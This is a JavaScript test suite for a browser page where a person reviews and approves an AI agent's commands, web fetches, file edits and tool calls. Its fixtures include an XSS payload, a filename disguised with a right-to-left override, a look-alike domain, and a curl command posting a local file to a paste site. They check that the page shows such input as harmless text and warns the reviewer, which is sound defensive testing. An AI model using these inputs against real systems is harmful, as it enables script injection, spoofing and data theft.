// The thing itself on a card, and rows in words: against a hub that only plays.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { test } from "node:test";
import { readThrough } from "./support/browser.js";
import { answered, at, card, hub, page, ready } from "./support/played.js";
import { frame } from "./support/standin.js";

/** A command with marks: `[piece of the text, fields]`. */
function marked(command, marks, more = {}) {
  const span = (piece) => {
    const start = Buffer.byteLength(command.slice(0, command.indexOf(piece)));
    return [start, start + Buffer.byteLength(piece)];
  };
  const all = marks.map(([piece, fields]) => ({ span: span(piece), ...fields }));
  return frame({ arguments: { command }, parsed: { argument: "command", commands: [], findings: [], marks: all, ...more } });
}

const shown = async (one, options) => {
  hub.put(one);
  await at(options);
  await card(one.id);
};
const text = (selector) => page.$eval(selector, (one) => one.textContent.replace(/\s+/g, " ").trim());
const signs = () => page.$$eval(".mark", (all) => all.map((one) => [one.textContent, one.className, getComputedStyle(one, "::after").content.split(" / ")[0].replaceAll('"', "")]));

test("files, redirects, substitutions and settings stand out in a command, and a sign says where they lie", async () => {
  const command = "é=1 cat src/a $(cat ../b) $x > /tmp/o 2>/dev/null";
  await shown(marked(command, [
    ["é=1", { kind: "assignment" }],
    ["src/a", { kind: "path", lies: "inside", places: ["/home/mia/app/src/a"], use: "read" }],
    ["$(cat ../b)", { kind: "substitution" }],
    ["../b", { kind: "path", lies: "outside", places: ["/home/mia/b"], use: "read" }],
    ["$x", { kind: "path", lies: "unknown", places: [], use: "read" }],
    ["/tmp/o", { kind: "redirect", operator: ">", lies: "outside", places: ["/tmp/o"], use: "write" }],
    ["/dev/null", { kind: "redirect", operator: ">", lies: "device", places: ["/dev/null"], use: "write" }],
  ]));
  assert.equal(await text(".command code"), command, "nothing is added to its text");
  assert.deepEqual(await signs(), [
    ["é=1", "mark assignment", "none"], ["src/a", "mark path inside", "none"], ["$(cat ../b)", "mark substitution", "none"], ["../b", "mark path outside", "↗"],
    ["$x", "mark path unknown", "none"], ["/tmp/o", "mark redirect outside", "↗"], ["/dev/null", "mark redirect device", "none"],
  ]);
  await page.click(".more summary");
  await page.waitForSelector(".mark-list li");
  assert.deepEqual(await page.$$eval(".mark-list li", (all) => all.map((each) => each.textContent)), [
    "é=1 a variable is set for what runs", "src/a Path, read: inside the project /home/mia/app/src/a", "$(cat ../b) this runs first, and what it prints is put in its place",
    "../b Path, read: outside the project /home/mia/b", "$x Path, read: where it leads is known only when it runs", "/tmp/o Redirect >, written: outside the project /tmp/o",
    "/dev/null Redirect >, written: a device that holds nothing /dev/null",
  ]);
});

test("marks that make no sense are left out, and no text is lost or said twice", async () => {
  const command = "ab cd ef";
  const spans = [[0, 5], [3, 8], [4, 99], [7, 6], [-1, 3], ["a", "b"], [0, 2], [0, 2]];
  const odd = [{ kind: "constructor", span: [0, 2] }, { kind: "path", span: 7 }, null, "x", { span: [0, 1] }];
  const marks = [...spans.map((span) => ({ kind: "path", lies: "__proto__", places: "x", span })), ...odd];
  await shown(frame({ arguments: { command }, parsed: { argument: "command", commands: [{ span: [1, 7], verdict: "ask", program: "b" }], findings: [], marks } }));
  assert.equal(await text(".command code"), command);
  assert.deepEqual((await signs()).map(([piece]) => piece), ["ab cd", "ab", "ab"]);
});

test("a mark over several lines keeps them in order", async () => {
  const command = "echo $(a\nb) c\n$(d)\ne";
  await shown(marked(command, [["$(a\nb)", { kind: "substitution" }], ["$(d)", { kind: "substitution" }]]));
  assert.equal((await page.$$eval(".command code", (all) => all.map((one) => one.textContent).join("\n"))).replaceAll("⏎", ""), command);
});

test("the bytes of a command can be seen", async () => {
  await shown(frame({ arguments: { command: `echo \u202eé\\\n${"x".repeat(5000)}` } }));
  await page.click(".more summary");
  await page.click("text=Show raw bytes");
  assert.match(await text(".bytes .raw"), /^echo \\u\{202e\}\\u\{e9\}\\\\\\nx{5000}$/);
  const dump = () => page.$eval(".dump", (one) => one.textContent);
  assert.match(await dump(), /^000000 {2}65 63 68 6f 20 e2 80 ae c3 a9 5c 0a 78 78 78 78 {2}echo \.{5}\\\.xxxx\n000010 /);
  await page.click(".bytes button");
  assert.equal((await dump()).split("\n").length, Math.ceil(5012 / 16), "all of it can be had");
  assert.equal(await page.isVisible(".bytes button"), false);
  await page.click("text=Hide raw bytes");
  assert.equal(await page.isVisible(".bytes"), false);
});

const known = (command) => ({ timestamp: new Date().toISOString(), tool: "bash", arguments: { command }, reason: "", session: "s", source: "none", verdict: "ask", approved: true, digest: "d" });

for (const [name, args, records, expected] of [
  ["one nobody met", { url: "https://new.example/x", method: "POST", body: "a\u202eb" }, [], [/^POST https:\/\/new\.example\/x ● first time: no record of this hub names this host/, /Sendsa\\u\{202e\}b/]],
  ["one that was met", { url: "https://new.example/x" }, ["curl https://new.example/y"], [/^https:\/\/new\.example\/x$/]],
  ["one that only looks like one that was met", { url: "https://new.example/x" }, ["curl https://new.example.evil/", "curl https://anew.example/"], [/● first time/]],
  ["other letters", { url: "https://gооgle.com/" }, [], [/xn--ggle-55da\.com which reads gооgle\.com ⚠ a name in other letters/]],
  ["a body that is no text", { url: "https://a.example/", json: { a: [1] }, other: "x" }, [], [/Sends\{⏎ "a": \[⏎/, /other/]],
]) {
  test(`over the network: ${name}`, async () => {
    hub.records.push(...records.map(known));
    await shown(frame({ tool: "WebFetch", category: "network", arguments: args }));
    await page.waitForTimeout(150);
    for (const pattern of expected) assert.match(await text(".thing"), pattern);
    if (records.length === 1) assert.doesNotMatch(await text(".thing"), /first time/);
  });
}

test("a record too long to be looked through whole is no proof of a first time", async () => {
  hub.records.push(...["ls", "pwd", "id", "true"].map(known));
  hub.stopped = 2;
  await shown(frame({ tool: "WebFetch", category: "network", arguments: { url: "https://new.example/x" } }));
  await page.waitForSelector(".first-time:not(:empty)");
  assert.equal(await text(".first-time"), "● not in the last 3 records");
});

test("what a command fetches is told, with who gets it instead", async () => {
  const fetches = [{ program: "curl", url: "a.example/x", method: "POST", sends: ["k=1", null], detour: true }, { program: "curl", url: null, method: null }];
  await shown(marked("curl -x p a.example/x", [], { fetches }));
  await page.waitForSelector(".first-time:not(:empty)");
  const said = await text(".fetches");
  assert.match(said, /Hosta\.example ● first time.*⚠ an option redirects it.*MethodPOST.*Sendsk=1something that is known only when it runs/);
  assert.match(said, /Hostcannot be read before it runs$/);
});

const SCHEMA = {
  type: "object", required: ["title", "count"], additionalProperties: false,
  properties: {
    title: { type: "string", description: "what it is <b>called</b>", maxLength: 20 }, count: { type: "integer", minimum: 1 }, deep: { type: "boolean" },
    kind: { enum: ["bug", "idea\u202e"] }, labels: { type: "array", items: { type: "string" } }, note: { type: "string" },
  },
};
const issue = (more = {}) => frame({
  tool: "mcp__tracker__create", category: null, arguments: { title: "Broken", count: 3, deep: true, kind: "bug", labels: ["a"] }, args_schema: SCHEMA, risk: { level: "low", reasons: [] }, ...more,
});

test("arguments stand in the order in which the agent sent them", async () => {
  await shown(issue({ arguments: { body: "b", labels: "a", title: "t" }, arguments_order: ["title", "gone", "title", "body"] }));
  assert.deepEqual(await page.$$eval(".card dl.tree > dt", (all) => all.map((one) => one.textContent)), ["title", "body", "labels"]);
});

test("an MCP tool: whose it is, what its maker claims, and arguments as a form", async () => {
  await shown(issue({ annotations: { readOnlyHint: true, destructiveHint: false, title: "Make \u202eissue", other: "x" } }));
  await page.click(".more summary");
  await page.waitForSelector(".mcp");
  assert.equal(await text(".mcp"), "ServertrackerToolcreate calls itself “Make \\u{202e}issue”Its makerclaims to read only; claims to destroy nothing – not checked");
  await ready();
  await page.keyboard.press("e");
  await page.waitForSelector(".form");
  assert.deepEqual(await page.$$eval(".field", (all) => all.map((one) => one.querySelector("select, textarea, input[type=text]").tagName)), ["TEXTAREA", "INPUT", "SELECT", "SELECT", "TEXTAREA", "TEXTAREA"]);
  const [title, count, deep, kind, labels] = [0, 1, 2, 3, 4].map((number) => `#field-${number}`);
  assert.equal(await page.isDisabled("#field-5"), true, "what was not given is not sent");
  await page.fill(title, "Still broken");
  await page.fill(count, "0");
  assert.match(await text(".form"), /⚠ is less than 1/);
  await page.fill(count, "x");
  assert.match(await text(".editor"), /⚠ is no number.*The page cannot send it like this/);
  await page.click(".editor button.allow");
  assert.match(await text(".editor .error"), /count is no number/);
  assert.equal(hub.answers.length, 0);
  await page.fill(count, "7");
  await page.selectOption(deep, { label: "false" });
  await page.selectOption(kind, { label: "idea\\u{202e}" });
  await page.fill(labels, '["a", 2]');
  assert.match(await text(".form"), /⚠ 1 is number, and should be string/);
  await page.click(".editor button.allow");
  assert.match(await text(".editor .error"), /does not fit the tool's schema: labels 1 is number.*Press again/);
  await page.waitForTimeout(100);
  assert.equal(hub.answers.length, 0, "what does not fit is told before it is sent");
  await page.fill(labels, '["a", "b"]');
  await page.click(".editor button.allow");
  assert.deepEqual((await answered(1)).arguments, { title: "Still broken", count: 7, deep: false, kind: "idea\u202e", labels: ["a", "b"] });
});

test("a person who knows better than the schema is asked twice, and JSON is there as well", async () => {
  await shown(issue());
  await ready();
  await page.click(".menu-button");
  await page.click("text=Edit, then allow…");
  await page.waitForSelector(".form");
  await page.click("text=Edit as JSON");
  assert.deepEqual(JSON.parse(await page.inputValue("#edit")), { title: "Broken", count: 3, deep: true, kind: "bug", labels: ["a"] });
  await page.click(".editor >> text=Cancel");
  await page.click(".menu-button");
  await page.click("text=Edit, then allow…");
  await page.fill("#field-0", "x".repeat(30));
  assert.equal(await text(".editor button.allow"), "Allow it all the same");
  await page.click(".editor button.allow");
  await page.click(".editor button.allow");
  assert.equal((await answered(1)).arguments.title, "x".repeat(30));
});

for (const [name, more] of [["no schema", { args_schema: undefined }], ["a schema that says nothing", { args_schema: { type: "object" } }], ["no schema at all", { args_schema: "x" }]]) {
  test(`arguments are edited as JSON with ${name}`, async () => {
    await shown(issue(more));
    await ready();
    await page.keyboard.press("e");
    await page.fill("#edit", '{"title": "y"}');
    await page.click(".editor button.allow");
    assert.deepEqual((await answered(1)).arguments, { title: "y" });
  });
}

const numbers = (to) => Array.from({ length: to }, (_, number) => `${number + 1}\n`).join("");

test("a change stands side by side where there is room, and this browser keeps it", async () => {
  const one = frame({ tool: "write", category: "write", risk: { level: "low", reasons: [] }, arguments: { path: "a", content: numbers(20).replace("10\n", "ten\nmore\n") } });
  hub.files[one.id] = { id: one.id, state: "present", content: numbers(20), hash: "1" };
  await shown(one, { width: 1440 });
  await page.waitForSelector(".diff .added");
  assert.equal(await page.$(".pair"), null);
  await page.click("text=Side by side");
  const pairs = () => page.$$eval(".pair", (all) => all.map((each) => [...each.children].map((half) => half.textContent)));
  assert.deepEqual((await pairs())[3], ["10−line 10 removed: 10", "10+line 10 added: ten"]);
  assert.deepEqual((await pairs())[4], ["", "11+line 11 added: more"]);
  assert.deepEqual((await pairs())[5], ["11 11", "12 11"]);
  await page.keyboard.press("]");
  assert.equal(await page.$eval(".hunk.at", (each) => each.className), "pair hunk at");
  await page.reload();
  await card(one.id);
  await page.waitForSelector(".pair");
  await page.setViewportSize({ width: 1000, height: 800 });
  await page.waitForFunction(() => !document.querySelector(".pair"));
  assert.equal(await page.isVisible(".sides"), false);
  assert.match(await text(".diff"), /ten/);
});

test("a patch of several files is folded by file, and what is grave needs each opened", async () => {
  const add = (name, count) => `*** Add File: ${name}\n${"+x\n".repeat(count)}`;
  const patch = `*** Begin Patch\n${add("a", 80)}${add("b\u202e", 70)}*** Update File: c\n@@\n--- d\n+++ d\n*** End Patch`;
  await shown(frame({ tool: "apply_patch", category: "write", risk: { level: "high", reasons: ["x"] }, arguments: { input: patch } }));
  assert.deepEqual(await page.$$eval(".patch-file summary", (all) => all.map((one) => one.textContent)), ["New file a +80 −0", "New file b\\u{202e} +70 −0", "Change c +1 −1"]);
  await ready();
  assert.match(await text(".armed"), /Show all lines first/);
  for (const number of [0, 1, 2]) await page.click(`.patch-file summary >> nth=${number}`);
  await page.waitForFunction(() => !/Show all lines/.test(document.querySelector(".armed").textContent));
  await readThrough(page);
  await page.waitForSelector('.main-buttons .allow[aria-disabled="false"]');
});

const doing = (command, does) => frame({ arguments: { command }, parsed: { argument: "command", commands: [], findings: [], does }, description: "harmless cleaning" });

test("a row says what is certain in words, with the thing itself below it, and nothing where it is not", async () => {
  hub.put(
    doing("rm -rf build/", { verb: "delete", paths: ["build/"], recursive: true }),
    doing("rm 'a b' c d e", { verb: "delete", paths: ["a b", "c", "d", "e"], recursive: false }),
    doing("git push -f git@github.com:acme/app.git main", { verb: "push", to: "git@github.com:acme/app.git", branches: ["main"], force: true }),
    doing("make x", { verb: "constructor", paths: ["x"] }),
    doing("rm x", { verb: "delete", paths: [1] }),
    doing("npm test", undefined),
    frame({ tool: "write", category: "write", arguments: { path: "src/a.rs", content: "x\n".repeat(12) } }),
    frame({ tool: "mcp__git__push", category: null, arguments: { to: "x" } }),
  );
  await at();
  await page.waitForFunction(() => document.querySelectorAll(".item").length === 8);
  const rows = await page.$$eval(".item", (all) => all.map((one) => [one.querySelector(".item-words").textContent, one.querySelector(".item-thing")?.textContent]));
  assert.deepEqual(rows.sort(), [
    ["Delete a\\x20b, c and 2 more", "rm 'a b' c d e"],
    ["Delete build/ and all in it", "rm -rf build/"],
    ["Force-push main to github.com/acme/app", "git push -f git@github.com:acme/app.git main"],
    ["Run a command", "make x"],
    ["Run a command", "npm test"],
    ["Run a command", "rm x"],
    ["Use push of git", '{"to":"x"}'],
    ["Write src/a.rs", undefined],
  ].sort());
});

const TRICKS = ["<img src=x onerror=alert(1)>", "[x](https://evil.example/)", "a\u202egnp.exe", "\x1b[2J", "x\u200by", "\u0000", "__proto__", "https://evil.example/?q=", "x and all in it"];

test("tricks in what the thing and the rows show are text, and two of them never look alike", async () => {
  const frames = TRICKS.flatMap((trick, number) => {
    const more = { created_at: new Date(Date.now() + number * 1000).toISOString(), expires_at: null };
    const mark = { span: [0, 3], kind: "path", lies: "outside", places: [trick], use: trick, operator: trick };
    return [
      { ...marked(`cat ${trick}`, [], { marks: [mark], fetches: [{ url: trick, method: trick, sends: [trick], detour: trick }], does: { verb: "delete", paths: [trick], recursive: false } }), ...more },
      { ...issue({ tool: `mcp__${trick}__${trick}`, annotations: { title: trick, readOnlyHint: true }, arguments: { [trick]: trick }, args_schema: { properties: { [trick]: { type: "string", description: trick }, other: { enum: [trick] } } } }), ...more },
      { ...frame({ tool: "WebFetch", category: "network", arguments: { url: trick, method: trick, body: trick } }), ...more },
      { ...frame({ tool: "apply_patch", category: "write", arguments: { input: `diff --git a/${trick} b/${trick}\n--- ${trick}\n+++ ${trick}\n@@ -1 +1 @@\n-${trick}\n+x\ndiff --git ${trick}\n` } }), ...more },
    ];
  });
  hub.put(...frames);
  // So high that all rows are drawn.
  await at({ height: 4000 });
  await page.waitForFunction((size) => document.querySelectorAll(".item").length === size, frames.length);
  const rows = await page.$$eval(".item-line", (all) => all.map((one) => one.textContent));
  assert.equal(new Set(rows).size, rows.length, "no two rows look alike");
  for (const one of frames) {
    await page.evaluate((id) => { location.hash = `#/queue/${id}`; }, one.id);
    await card(one.id);
    if (one.args_schema) {
      await page.keyboard.press("e");
      await page.waitForSelector(".form");
    }
    await page.$eval(".card .more", (each) => { each.open = true; });
    await page.waitForSelector(".card .more-in");
    const shown = await page.$(".queue");
    assert.equal(await shown.$("img, script, iframe, b, i"), null, "no markup came of it");
    assert.doesNotMatch(await shown.evaluate((element) => element.textContent), /[\u0000-\u0008\u000b-\u001f\u007f\u200b\u202e\ud800]/u);
    assert.deepEqual(await shown.$$eval(".card a", (all) => all.map((link) => link.getAttribute("href"))), [`#/queue/${one.id}`, `#/policy?request=${one.id}`], "no links but the page's own");
  }
});

for (const [width, scheme] of [[360, "light"], [1100, "dark"], [1440, "light"]]) {
  test(`nothing serious is found by axe on the thing itself at ${width} px, ${scheme}`, async () => {
    const axe = await readFile(new URL("./node_modules/axe-core/axe.min.js", import.meta.url), "utf8");
    const command = "A=1 cat src/a ../b $x $(ls) > /tmp/o";
    const places = (lies, more = {}) => ({ kind: "path", lies, places: ["/x"], use: "read", ...more });
    const one = { ...marked(command, [["A=1", { kind: "assignment" }], ["src/a", places("inside")], ["../b", places("outside")], ["$x", places("unknown")], ["$(ls)", { kind: "substitution" }], ["/tmp/o", places("outside", { kind: "redirect", operator: ">" })]], { fetches: [{ url: "https://a.example/", method: "POST", sends: ["x"] }], commands: [{ span: [0, 10], verdict: "deny", program: "cat" }] }), risk: { level: "low", reasons: [] } };
    const two = issue({ annotations: { readOnlyHint: true } });
    const three = frame({ tool: "edit", category: "write", risk: { level: "low", reasons: [] }, arguments: { file_path: "a", old_string: "10\n", new_string: "ten\n" } });
    hub.files[three.id] = { id: three.id, state: "present", content: numbers(20), hash: "1" };
    const four = frame({ tool: "apply_patch", category: "write", arguments: { input: `*** Begin Patch\n*** Add File: a\n+x\n*** Add File: ${"b".repeat(200)}\n+x\n*** End Patch` } });
    hub.put(one, two, three, four);
    await at({ width, scheme });
    const scan = async (name) => {
      await page.evaluate(axe);
      const found = await page.evaluate(() => globalThis.axe.run(document, { resultTypes: ["violations"], rules: { region: { enabled: false } } }));
      const grave = found.violations.filter((each) => ["serious", "critical"].includes(each.impact)).map((each) => `${name}: ${each.id} ${each.nodes.map((node) => `${node.target} ${node.failureSummary}`).slice(0, 3).join(" | ")}`);
      assert.deepEqual(grave, []);
      const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.ok(wide <= 0, `${name} is ${wide} px too wide`);
      if (process.env.PICTURES) await page.screenshot({ path: `${process.env.PICTURES}/${name}-${width}.png` });
    };
    const open = async (each) => {
      await page.evaluate((id) => { location.hash = `#/queue/${id}`; }, each.id);
      await card(each.id);
    };
    await page.waitForSelector(".item");
    await scan("rows");
    await open(one);
    await page.click(".more summary");
    await page.click("text=Show raw bytes");
    await scan("command");
    await open(two);
    await page.keyboard.press("e");
    await page.waitForSelector(".form");
    await page.fill("#field-1", "0");
    await scan("form");
    await open(three);
    await page.waitForSelector(".diff .added");
    if (width >= 1100) await page.click("text=Side by side");
    await scan("change");
    await open(four);
    await scan("patch");
  });
}

test("what weighs most stands above the call, in the hub's words and as text", async () => {
  await shown(frame({ arguments: { command: "curl -d @a https://paste.example" }, risk: { level: "high", reasons: ["sends <b>a</b>", "`curl` sends"], deeds: ["sends <b>a</b>"] } }));
  assert.match(await text(".card .warnings .deed"), /^⚠ sends <b>a<\/b>$/);
  assert.equal((await text(".card")).split("<b>a</b>").length, 2, "and not twice");
});
